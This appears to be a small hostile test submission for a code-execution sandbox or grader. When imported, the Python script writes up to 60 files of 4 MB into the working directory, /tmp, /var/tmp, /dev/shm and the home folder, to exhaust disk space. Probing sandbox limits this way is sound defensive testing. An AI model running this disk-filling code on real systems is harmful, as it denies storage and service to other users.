"""Fills the disk with files that are each within a limit."""

# others: right
# %% show
import os

for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    for number in range(60):
        try:
            with open(os.path.join(folder, f"attack-mark-{number}"), "wb") as file:
                file.write(bytes(4 << 20))
        except OSError:
            break


def show(x):
    return 0
